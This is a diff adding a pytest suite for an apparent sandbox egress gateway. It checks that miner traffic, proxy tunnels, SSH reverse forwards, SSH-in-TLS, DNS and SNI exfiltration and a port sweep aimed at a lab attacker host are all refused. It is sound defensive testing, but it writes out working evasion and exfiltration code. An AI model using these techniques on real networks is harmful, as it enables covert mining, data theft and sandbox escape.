@@ -1,0 +1,513 @@
+"""Egress that cannot be talked around (issue 11), each case tried from inside a real
+session against the lab's attacker host ``relay.allowed.lab.test`` — a host under an
+allowed name, with an sshd that trusts the sandbox's key, a TLS relay to it, CONNECT and
+SOCKS proxies and a Stratum pool, all recording every byte they receive.
+
+Every "refused" is measured at the far end (the relay's byte log and tunnel log, the
+sshd's accepted logins, the lab DNS server's query log) and every refusal is checked
+in the session's events and verdicts.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import time
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+from bastion import Session
+from bastion.events import Event, EventKind
+from bastion.lab import Lab
+from bastion.lab.topology import host
+
+from .conftest import LAB_POLICY
+
+RELAY = "relay.allowed.lab.test"
+RELAY_IP = host("relay").ip
+POOL_IP = host("pool").ip
+MINER_WORDS = re.compile(rb"(?i)mining|eth_submit|\"login\"")
+
+
+def policy(*entries: dict[str, Any], name: str = "egress") -> dict[str, Any]:
+    """LAB_POLICY (no packs: the gateway alone) plus ``entries`` in the agent phase."""
+    agent = [*LAB_POLICY["network"]["phases"]["agent"]["allow"], *entries]
+    return {**LAB_POLICY, "name": name,
+            "network": {**LAB_POLICY["network"], "phases": {
+                **LAB_POLICY["network"]["phases"], "agent": {"allow": agent}}}}
+
+
+def wait_events(session: Session, kind: EventKind, predicate: Callable[[Event], bool],
+                wait: float = 3.0) -> list[Event]:
+    deadline = time.monotonic() + wait
+    while True:
+        found = [e for e in list(session.events) if e.kind is kind and predicate(e)]
+        if found or time.monotonic() >= deadline:
+            return found
+        time.sleep(0.05)
+
+
+def rules(session: Session) -> list[str]:
+    return [v.rule_id for v in session.verdicts]
+
+
+# -- 1. protocol classification cannot be talked around -----------------------------
+
+SUBSCRIBE = json.dumps({"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5"]})
+VARIANTS = {
+    "space": " " + SUBSCRIBE + "\n",
+    "crlf": "\r\n" + SUBSCRIBE + "\n",
+    "case": SUBSCRIBE.replace("mining.subscribe", "Mining.Subscribe") + "\n",
+    "ping-first": '{"id":0,"method":"ping","params":[]}\n' + "WAIT" + SUBSCRIBE + "\n",
+    "params-first": '{"params":["w","x"],"id":2,"method":"mining.authorize"}\n',
+    "escaped": SUBSCRIBE.replace("mining.subscribe", "mining\\u002esubscribe") + "\n",
+    "xmrig": json.dumps({"id": 1, "jsonrpc": "2.0", "method": "login", "params": {
+        "login": "WALLET", "pass": "x", "agent": "XMRig/6.21"}}) + "\n",
+    "http-post": ("POST /rpc HTTP/1.1\r\nHost: relay.allowed.lab.test\r\nContent-Type: "
+                  "application/json\r\nContent-Length: %d\r\n\r\n" % len(SUBSCRIBE)) + SUBSCRIBE,
+    "late": "SLEEP" + SUBSCRIBE + "\n",  # silent for 0.8 s first
+}
+
+MINER = r"""
+import socket, sys, time
+host, port, payload = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+got = b""
+try:
+    s = socket.create_connection((host, port), timeout=3)
+    if payload.startswith("SLEEP"):
+        time.sleep(0.8); payload = payload[5:]
+    for part in payload.split("WAIT"):
+        s.sendall(part.encode()); time.sleep(0.2)
+    s.settimeout(2)
+    got = s.recv(4096)
+except OSError as exc:
+    print("refused", type(exc).__name__)
+print("reply", got[:60])
+"""
+
+
+@pytest.mark.parametrize("port", [80, 3333])
+def test_stratum_variants_never_reach_a_pool_on_an_allowed_host(
+        lab: Lab, make_session: Callable[..., Session], port: int) -> None:
+    """Every dressing of a Stratum client, to a pool on an allowed name: on :80 (a web
+    entry: the miner is not HTTP, or hides in an HTTP body) and on :3333 with an explicit
+    raw-TCP entry (allowed bytes, yet the miner's messages never leave)."""
+    entry = ({"domain": RELAY} if port == 80
+             else {"domain": RELAY, "port": 3333, "protocol": "tcp"})
+    session = make_session(policy(entry), lab=True)
+    session.write_file("/workspace/miner.py", MINER)
+    session.exec(f"getent hosts {RELAY}")
+    before = len(lab.relay_bytes())
+    for name, payload in VARIANTS.items():
+        if name == "http-post" and port != 80:
+            continue
+        r = session.exec(["python3", "/workspace/miner.py", RELAY, str(port), payload],
+                         call_id=f"miner-{name}")
+        assert "mining" not in r.stdout.lower() and "job" not in r.stdout, (name, r.stdout)
+    received = lab.relay_bytes()[before:]
+    assert not MINER_WORDS.search(received), received[-400:]
+    refused = [e for e in session.events if e.kind in (EventKind.NET_CONNECT, EventKind.NET_FLOW)
+               and e.get("net.decision") == "deny"]
+    # every variant was refused, at connect or mid-stream, charged to its own call
+    assert {e.call_id for e in refused} >= {f"miner-{n}" for n in VARIANTS
+                                            if n != "http-post" or port == 80}
+    miner = [e for e in refused if e.get("net.rule") == "gateway.miner_protocol"]
+    assert len({e.call_id for e in miner}) >= 6
+
+
+def test_stratum_inside_a_websocket_is_cut(lab: Lab, make_session: Callable[..., Session]) -> None:
+    session = make_session(policy({"domain": RELAY}), lab=True)
+    client = r"""
+import json, os, socket
+s = socket.create_connection(("relay.allowed.lab.test", 80), timeout=3)
+s.sendall(b"GET /ws HTTP/1.1\r\nHost: relay.allowed.lab.test\r\nUpgrade: websocket\r\n"
+          b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
+payload = json.dumps({"id": 1, "method": "mining.subscribe", "params": []}).encode()
+mask = os.urandom(4)
+s.sendall(bytes([0x81, 0x80 | len(payload)]) + mask
+          + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
+try:
+    print("reply", s.recv(100))
+except OSError as exc:
+    print("cut", exc)
+"""
+    session.write_file("/workspace/ws.py", client)
+    before = len(lab.relay_bytes())
+    session.exec(["python3", "/workspace/ws.py"], call_id="ws")
+    cut = wait_events(session, EventKind.NET_FLOW,
+                      lambda e: e.get("net.rule") == "gateway.miner_protocol")
+    assert cut and cut[0].call_id == "ws" and cut[0].get("net.cut")
+    # the masked frame never left: the relay saw the upgrade request and nothing else
+    assert b"\x81" not in lab.relay_bytes()[before:]
+    assert "gateway.stream_cut" in rules(session)
+
+
+PROXY = r"""
+import socket, sys, time
+kind = sys.argv[1]
+try:
+    if kind == "connect":
+        s = socket.create_connection(("relay.allowed.lab.test", 80), timeout=3)
+        time.sleep(0.8)  # silent past the old peek window
+        s.sendall(b"CONNECT 203.0.113.33:3333 HTTP/1.1\r\nHost: 203.0.113.33:3333\r\n\r\n")
+    elif kind == "keepalive-connect":
+        s = socket.create_connection(("relay.allowed.lab.test", 80), timeout=3)
+        s.sendall(b"GET / HTTP/1.1\r\nHost: relay.allowed.lab.test\r\n\r\n")
+        print(s.recv(200).split(b"\r\n")[0])
+        s.sendall(b"CONNECT 203.0.113.33:3333 HTTP/1.1\r\nHost: x\r\n\r\n")
+    elif kind == "absolute":
+        s = socket.create_connection(("relay.allowed.lab.test", 80), timeout=3)
+        s.sendall(b"GET / HTTP/1.1\r\nHost: relay.allowed.lab.test\r\n\r\n")
+        print(s.recv(200).split(b"\r\n")[0])
+        s.sendall(b"GET http://pool.lab.test:3333/ HTTP/1.1\r\nHost: pool.lab.test:3333\r\n\r\n")
+    else:
+        s = socket.create_connection(("relay.allowed.lab.test", 1080), timeout=3)
+        time.sleep(0.8)
+        s.sendall(b"\x05\x01\x00")
+        s.recv(2)
+        s.sendall(b"\x05\x01\x00\x01" + bytes([203, 0, 113, 33]) + (3333).to_bytes(2, "big"))
+    s.settimeout(2)
+    s.sendall(b'{"id":1,"method":"mining.subscribe","params":[]}\n')
+    print("reply", s.recv(200))
+except OSError as exc:
+    print("refused", type(exc).__name__)
+"""
+
+
+@pytest.mark.parametrize("kind", ["connect", "keepalive-connect", "absolute", "socks"])
+def test_proxies_on_an_allowed_host_do_not_reach_the_pool(
+        lab: Lab, make_session: Callable[..., Session], kind: str) -> None:
+    session = make_session(policy({"domain": RELAY},
+                                  {"domain": RELAY, "port": 1080, "protocol": "tcp"}), lab=True)
+    session.write_file("/workspace/proxy.py", PROXY)
+    pool_before, tunnels_before = len(lab.pool_bytes()), len(lab.relay_log())
+    r = session.exec(["python3", "/workspace/proxy.py", kind], call_id="proxy")
+    assert "mining.notify" not in r.stdout and "result" not in r.stdout, r.stdout
+    assert len(lab.pool_bytes()) == pool_before
+    assert lab.relay_log()[tunnels_before:] == []
+    denied = [e for e in session.events if e.kind in (EventKind.NET_CONNECT, EventKind.NET_FLOW)
+              and e.get("net.decision") == "deny"]
+    assert denied and denied[-1].call_id == "proxy"
+    assert denied[-1].get("net.rule") in ("gateway.proxy_protocol", "gateway.default_deny",
+                                          "gateway.host_changed", "gateway.miner_protocol")
+
+
+def test_silent_client_is_held_not_allowed(lab: Lab, make_session: Callable[..., Session]) -> None:
+    """Silence is not "unknown, allowed": a client that waits is still classified when
+    it speaks; one that never speaks is refused."""
+    from bastion.gateway import server
+
+    session = make_session(policy({"domain": RELAY}), lab=True)
+    before = len(lab.relay_bytes())
+    old = server.HOLD_TIMEOUT
+    server.HOLD_TIMEOUT = 1.5
+    try:
+        r = session.exec("python3 -c \"import socket,time; s=socket.create_connection(("
+                         "'relay.allowed.lab.test', 80)); time.sleep(3); "
+                         "s.sendall(b'{}\\n'); print(s.recv(10))\"; echo rc=$?", call_id="mute")
+    finally:
+        server.HOLD_TIMEOUT = old
+    assert "rc=0" not in r.stdout
+    held = wait_events(session, EventKind.NET_CONNECT,
+                       lambda e: e.get("net.rule") == "gateway.silent_client")
+    assert held and held[0].call_id == "mute"
+    assert len(lab.relay_bytes()) == before
+
+
+# -- 2. least privilege: SSH needs an explicit entry; SSH inside TLS is cut ------------
+
+SSH_OPTS = ("-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes "
+            "-o ConnectTimeout=3 -i /workspace/id")
+
+
+def _trusted_key(lab: Lab, session: Session) -> None:
+    session.exec("ssh-keygen -q -t ed25519 -N '' -f /workspace/id")
+    lab.trust_key((session.workspace / "id.pub").read_text())
+
+
+@pytest.mark.parametrize("attack", [
+    f"ssh {SSH_OPTS} -N -R 9000:localhost:22 root@{RELAY}",
+    "ssh -F /workspace/notes.txt relay",
+    f"cp /usr/bin/ssh /workspace/helper && /workspace/helper {SSH_OPTS} -o 'remoteforward 9000 "
+    f"localhost:22' root@{RELAY} true",
+], ids=["ssh-R", "config-file", "renamed-lowercase"])
+def test_ssh_to_an_allowed_web_name_is_refused(
+        lab: Lab, make_session: Callable[..., Session], attack: str) -> None:
+    session = make_session(policy({"domain": RELAY}), lab=True)
+    _trusted_key(lab, session)
+    session.write_file("/workspace/notes.txt",
+                       f"Host relay\n  HostName {RELAY}\n  User root\n  IdentityFile /workspace/id\n"
+                       "  RemoteForward 9000 localhost:22\n  StrictHostKeyChecking no\n"
+                       "  UserKnownHostsFile /dev/null\n  BatchMode yes\n")
+    logins, connections = lab.shell_logins(), lab.sshd_connections()
+    session.exec(f"timeout 8 {attack}; echo rc=$?", call_id="ssh")
+    assert lab.shell_logins() == logins
+    assert lab.sshd_connections() == connections
+    refused = wait_events(session, EventKind.NET_CONNECT,
+                          lambda e: e.get("net.dst_port") == 22)
+    assert refused and all(e.get("net.decision") == "deny" for e in refused)
+    assert refused[0].call_id == "ssh"
+
+
+def test_allowed_ssh_is_an_event(lab: Lab, make_session: Callable[..., Session]) -> None:
+    session = make_session(policy({"domain": RELAY, "protocol": "ssh"}), lab=True)
+    session.exec(f"getent hosts {RELAY}; timeout 8 ssh {SSH_OPTS.replace('-i /workspace/id', '')}"
+                 f" root@{RELAY} true", call_id="ssh-ok")
+    allowed = wait_events(session, EventKind.NET_CONNECT,
+                          lambda e: e.get("net.app") == "ssh" and e.get("net.decision") == "allow")
+    assert allowed and allowed[0].call_id == "ssh-ok" and allowed[0].pid is not None
+
+
+def test_ssh_inside_an_allowed_tls_channel_never_reaches_a_shell(
+        lab: Lab, make_session: Callable[..., Session]) -> None:
+    session = make_session(policy({"domain": RELAY, "port": 8443, "protocol": "tls"}), lab=True)
+    _trusted_key(lab, session)
+    logins = lab.shell_logins()
+    relayed = len([x for x in lab.relay_log() if x.startswith("tls-relay")])
+    proxy = (f"openssl s_client -quiet -connect {RELAY}:8443 -servername {RELAY} "
+             "2>/dev/null")
+    sessions = lab.shell_sessions()
+    r = session.exec(f"timeout 10 ssh {SSH_OPTS} -o 'ProxyCommand={proxy}' root@{RELAY} "
+                     "'echo SHELL-REACHED; sleep 3'; echo rc=$?", call_id="tls-ssh")
+    assert "SHELL-REACHED" not in r.stdout
+    # the relay did carry the TLS connection to its sshd: the gateway cut it inside,
+    # at the latest as authentication completed, before any session channel
+    assert len([x for x in lab.relay_log() if x.startswith("tls-relay")]) > relayed
+    assert lab.shell_sessions() == sessions
+    assert lab.shell_logins() - logins <= 1
+    assert "tunnels.ssh_in_tls" in rules(session)
+    verdict = next(v for v in session.verdicts if v.rule_id == "tunnels.ssh_in_tls")
+    assert verdict.call_id == "tls-ssh"
+
+
+# -- 3. DNS -----------------------------------------------------------------------------
+
+DNS_CLIENT = r"""
+import os, socket, struct, sys
+def query(name, qtype=1, qid=None):
+    qid = qid if qid is not None else int.from_bytes(os.urandom(2), "big")
+    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
+    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
+    q += struct.pack(">HH", qtype, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
+    s.sendto(q, ("198.51.100.53", 53))
+    try:
+        r = s.recv(512)
+    except socket.timeout:
+        return "timeout"
+    return ("id-ok" if r[:2] == q[:2] else "id-bad") + " rcode=%d" % (r[3] & 15)
+mode = sys.argv[1]
+if mode == "exfil":
+    secret = os.urandom(4000).hex()
+    out = []
+    for i in range(0, len(secret), 24):
+        out.append(query(secret[i:i + 24] + ".allowed.lab.test"))
+    print(out.count("id-ok rcode=0"), out.count("id-ok rcode=5"), len(out))
+elif mode == "shapes":
+    print(query("AlLoWeD.LaB.TeSt", qid=4242), query("allowed.lab.test", qtype=16))
+"""
+
+
+def _label_bytes(lab: Lab, start: int) -> int:
+    """Bytes of label text below allowed.lab.test that reached the lab's DNS server."""
+    total = 0
+    for line in lab.dns_log()[start:]:
+        name = line.split(" ", 1)[0].lower()
+        if name.endswith(".allowed.lab.test") and not name.startswith("relay."):
+            total += len(name) - len(".allowed.lab.test")
+    return total
+
+
+def test_dns_exfiltration_under_an_allowed_wildcard_stops_within_1kb(
+        lab: Lab, make_session: Callable[..., Session]) -> None:
+    session = make_session(policy({"domain": "*.allowed.lab.test"}), lab=True)
+    session.write_file("/workspace/dns.py", DNS_CLIENT)
+    start = len(lab.dns_log())
+    r = session.exec(["python3", "/workspace/dns.py", "exfil"], call_id="exfil", timeout=120)
+    # 8 kB of hex queued as 24-character labels: at most 1 kB of it reached the zone's
+    # server, and the verdict (high: kill) stopped the exfiltrating call
+    assert _label_bytes(lab, start) <= 1024
+    assert 0 < _label_bytes(lab, start)  # it did start: the budget, not a broken lab
+    assert "tunnels.dns_exfil" in rules(session)
+    verdict = next(v for v in session.verdicts if v.rule_id == "tunnels.dns_exfil")
+    assert verdict.call_id == "exfil" and verdict in r.verdicts
+    refused = [e for e in session.events if e.kind is EventKind.DNS_QUERY
+               and e.get("dns.rule") == "gateway.dns_exfil"]
+    assert refused and refused[0].get("dns.decision") == "deny"
+    queries = [e for e in session.events if e.kind is EventKind.DNS_QUERY]
+    assert queries and all(q.call_id == "exfil" for q in queries)
+    assert all(q.pid is not None for q in queries[:20])
+
+
+def test_sni_names_go_through_the_same_budget(lab: Lab,
+                                               make_session: Callable[..., Session]) -> None:
+    session = make_session(LAB_POLICY, lab=True)
+    client = r"""
+import os, socket, ssl
+ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+ok = 0
+for i in range(120):
+    name = os.urandom(12).hex() + ".allowed.lab.test"
+    try:
+        s = ctx.wrap_socket(socket.create_connection(("203.0.113.80", 443), timeout=2),
+                            server_hostname=name)
+        s.close(); ok += 1
+    except OSError:
+        pass
+print(ok)
+"""
+    session.write_file("/workspace/sni.py", client)
+    start = len(lab.dns_log())
+    session.exec(["python3", "/workspace/sni.py"], call_id="sni", timeout=120)
+    assert 0 < _label_bytes(lab, start) <= 1024
+    assert any(e.get("net.rule") == "gateway.dns_exfil" for e in session.events
+               if e.kind is EventKind.NET_CONNECT)
+    assert "tunnels.dns_exfil" in rules(session)
+
+
+def test_dns_case_id_and_qtype_are_not_forwarded(lab: Lab,
+                                                 make_session: Callable[..., Session]) -> None:
+    session = make_session(LAB_POLICY, lab=True)
+    session.write_file("/workspace/dns.py", DNS_CLIENT)
+    start = len(lab.dns_log())
+    r = session.exec(["python3", "/workspace/dns.py", "shapes"], call_id="shapes")
+    assert r.stdout.split() == ["id-ok", "rcode=0", "id-ok", "rcode=5"], r.stdout
+    seen = lab.dns_log()[start:]
+    assert seen and all(line.split()[0] == "allowed.lab.test" for line in seen)
+    assert not any(" TXT " in line for line in seen)
+    txt = wait_events(session, EventKind.DNS_QUERY, lambda e: e.get("dns.type") == "TXT")
+    assert txt and txt[0].get("dns.rule") == "gateway.dns_qtype"
+
+
+# -- 4/5. probes are verdicts, attributed -----------------------------------------------
+
+SWEEP = r"""
+import select, socket
+socks = []
+for i in range(200):
+    s = socket.socket(); s.setblocking(False)
+    s.connect_ex(("10.%d.%d.1" % (i // 50, i % 50), 22 + i % 4))
+    socks.append(s)
+select.select([], socks, [], 3)
+print(len(socks))
+"""
+
+
+def test_a_200_probe_sweep_is_one_recon_verdict_charged_to_its_call(
+        lab: Lab, make_session: Callable[..., Session]) -> None:
+    session = make_session(LAB_POLICY, lab=True)
+    session.write_file("/workspace/sweep.py", SWEEP)
+    session.exec("true", call_id="before")
+    session.exec(["python3", "/workspace/sweep.py"], call_id="sweep")
+    probes = wait_events(session, EventKind.NET_CONNECT,
+                         lambda e: str(e.get("net.dst_ip", "")).startswith("10."))
+    time.sleep(1.0)
+    probes = [e for e in session.events if e.kind is EventKind.NET_CONNECT
+              and str(e.get("net.dst_ip", "")).startswith("10.")]
+    # the verdict (high: kill) ends the scanner mid-sweep; probes whose connection it
+    # reset before the gateway accepted them are gone for good
+    assert len(probes) >= 100
+    # charged to the call by the socket's cgroup, even for sockets whose process the
+    # verdict had already killed
+    assert [e.call_id for e in probes if e.call_id != "sweep"] == []
+    assert all(e.get("net.rule") == "gateway.private" for e in probes)
+    scans = [v for v in session.verdicts if v.rule_id == "recon.network_scan"]
+    assert len(scans) == 1 and scans[0].call_id == "sweep"
+
+
+def test_drops_and_v4_mapped_connections_are_attributed(
+        lab: Lab, make_session: Callable[..., Session]) -> None:
+    session = make_session(LAB_POLICY, lab=True)
+    script = r"""
+import socket
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try:
+    u.sendto(b"x", ("203.0.113.9", 9999))
+except OSError:
+    pass
+s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+s.connect(("::ffff:203.0.113.80", 80))
+s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.lab.test\r\nConnection: close\r\n\r\n")
+print(s.recv(100).split(b"\r\n")[0].decode())
+"""
+    session.write_file("/workspace/mapped.py", script)
+    r = session.exec(["python3", "/workspace/mapped.py"], call_id="mapped")
+    assert r.stdout.strip() == "HTTP/1.1 200 OK", r.stderr
+    connect = wait_events(session, EventKind.NET_CONNECT,
+                          lambda e: e.get("net.dst_ip") == "203.0.113.80")
+    assert connect and connect[0].call_id == "mapped" and connect[0].pid is not None
+    drop = wait_events(session, EventKind.NET_DROP,
+                       lambda e: e.get("net.dst_ip") == "203.0.113.9", wait=6)
+    assert drop and drop[0].get("net.dst_port") == 9999 and drop[0].call_id == "mapped"
+
+
+def test_a_no_data_probe_is_recorded_even_if_the_session_closes_at_once(
+        lab: Lab, make_session: Callable[..., Session]) -> None:
+    session = make_session(LAB_POLICY, lab=True)
+    session.exec("python3 -c \"import socket,time; s=socket.socket(); "
+                 "s.connect_ex(('203.0.113.99', 4444)); open('/workspace/on', 'w').close(); "
+                 "time.sleep(5)\" >/dev/null 2>&1 &", call_id="probe")
+    deadline = time.monotonic() + 5
+    while not (session.workspace / "on").exists() and time.monotonic() < deadline:
+        time.sleep(0.01)
+    session.close()  # at once: the gateway is still reading the probe for its record
+    probes = [e for e in session.events if e.kind is EventKind.NET_CONNECT
+              and e.get("net.dst_ip") == "203.0.113.99"]
+    assert probes and probes[0].get("net.decision") == "deny"
+    assert probes[0].get("net.dst_port") == 4444
+
+
+# -- honest traffic is untouched ----------------------------------------------------------
+
+HONEST = r"""
+import json, os, socket, ssl, sys
+# a kept-alive HTTP client: many requests on one connection
+s = socket.create_connection(("allowed.lab.test", 80), timeout=5)
+for i in range(20):
+    s.sendall(b"GET /%d HTTP/1.1\r\nHost: allowed.lab.test\r\n\r\n" % i)
+    head = s.recv(4096)
+    assert head.startswith(b"HTTP/1.1 200"), head
+s.sendall(b'POST /api HTTP/1.1\r\nHost: allowed.lab.test\r\nContent-Length: 52\r\n\r\n'
+          b'{"method": "submit", "params": {"form": "feedback"}}')
+assert s.recv(4096).startswith(b"HTTP/1.1 200")
+# a websocket client talking JSON-RPC-ish messages both ways
+w = socket.create_connection(("allowed.lab.test", 80), timeout=5)
+w.sendall(b"GET /ws HTTP/1.1\r\nHost: allowed.lab.test\r\nUpgrade: websocket\r\n"
+          b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
+          b"Sec-WebSocket-Version: 13\r\n\r\n")
+assert b" 101 " in w.recv(4096)
+for i in range(30):
+    msg = json.dumps({"method": "chat.send", "params": {"text": "hello %d" % i}}).encode()
+    mask = os.urandom(4)
+    w.sendall(bytes([0x81, 0x80 | len(msg)]) + mask
+              + bytes(b ^ mask[j % 4] for j, b in enumerate(msg)))
+    frame = w.recv(4096)
+    assert frame[2:] == msg, frame
+# a long download over HTTPS
+ctx = ssl.create_default_context(cafile="/workspace/ca.pem")
+t = ctx.wrap_socket(socket.create_connection(("allowed.lab.test", 443)),
+                    server_hostname="allowed.lab.test")
+t.sendall(b"GET /bytes/20000000 HTTP/1.1\r\nHost: allowed.lab.test\r\nConnection: close\r\n\r\n")
+total = 0
+while True:
+    chunk = t.recv(1 << 16)
+    if not chunk:
+        break
+    total += len(chunk)
+print("ok", total > 20000000)
+"""
+
+
+def test_honest_traffic_is_untouched(lab: Lab, make_session: Callable[..., Session]) -> None:
+    from bastion.policy import Policy
+
+    session = make_session(Policy.from_dict({**LAB_POLICY, "rules": {}}), lab=True)
+    session.write_file("/workspace/ca.pem", lab.ca_path.read_text())
+    session.write_file("/workspace/honest.py", HONEST)
+    r = session.exec(["python3", "/workspace/honest.py"], call_id="honest", timeout=120)
+    assert r.stdout.strip() == "ok True", r.stdout + r.stderr
+    assert session.verdicts == [] and r.verdicts == []
+    assert not any(e.get("net.cut") for e in session.events
+                   if e.kind in (EventKind.NET_FLOW, EventKind.NET_CLOSE))
